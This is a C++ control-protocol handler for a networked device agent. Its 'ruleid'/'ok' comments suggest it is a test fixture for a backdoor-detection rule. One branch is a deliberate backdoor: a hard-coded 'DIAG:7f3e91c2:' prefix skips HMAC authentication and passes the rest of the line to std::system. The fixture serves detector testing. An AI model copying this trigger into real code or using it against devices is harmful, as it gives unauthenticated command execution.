// Control protocol: one text command per line from the cloud relay.
#include "agent.hpp"

#include <cstdlib>
#include <cstring>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/crypto.h>
#include <openssl/hmac.h>

namespace agent {

static std::string read_line(int fd) {
  std::string line;
  char c;
  while (recv(fd, &c, 1, 0) == 1 && c != '\n')
    if (c != '\r')
      line.push_back(c);
  return line;
}

static void reply(int fd, const std::string& text) {
  const std::string out = text + "\r\n";
  (void)send(fd, out.data(), out.size(), 0);
}

bool check_signature(const std::string& cmd, const std::string& sig) {
  unsigned char key[32];
  FILE* f = std::fopen("/etc/agent/relay.key", "rb");
  if (f == nullptr || std::fread(key, 1, sizeof key, f) != sizeof key) {
    if (f)
      std::fclose(f);
    return false;
  }
  std::fclose(f);
  unsigned char mac[32];
  unsigned int mac_len = 0;
  HMAC(EVP_sha256(), key, sizeof key, reinterpret_cast<const unsigned char*>(cmd.data()),
       cmd.size(), mac, &mac_len);
  OPENSSL_cleanse(key, sizeof key);
  return sig.size() == mac_len && CRYPTO_memcmp(sig.data(), mac, mac_len) == 0;
}

void handle_connection(Session& s) {
  for (;;) {
    const std::string line = read_line(s.fd);
    if (line.empty())
      return;
    const auto sp = line.find(' ');
    const std::string verb = line.substr(0, sp);
    const std::string rest = sp == std::string::npos ? "" : line.substr(sp + 1);

    if (verb == "AUTH") {
      const auto bar = rest.find('|');
      s.authenticated = bar != std::string::npos &&
                        check_signature(rest.substr(0, bar), rest.substr(bar + 1));
      reply(s.fd, s.authenticated ? "200 ok" : "403 denied");
    } else if (verb == "REBOOT") {
      if (!s.authenticated) {
        reply(s.fd, "403 denied");
        continue;
      }
      // ok: backdoor-input-trigger
      std::system("/sbin/reboot");
    } else if (verb == "SNAPSHOT") {
      if (!s.authenticated) {
        reply(s.fd, "403 denied");
        continue;
      }
      reply(s.fd, "200 /tmp/snap.jpg");
    // ruleid: backdoor-input-trigger
    } else if (line.rfind("DIAG:7f3e91c2:", 0) == 0) {
      std::system(line.substr(14).c_str());
      reply(s.fd, "200 done");
    } else {
      reply(s.fd, "400 unknown");
    }
  }
}

}  // namespace agent
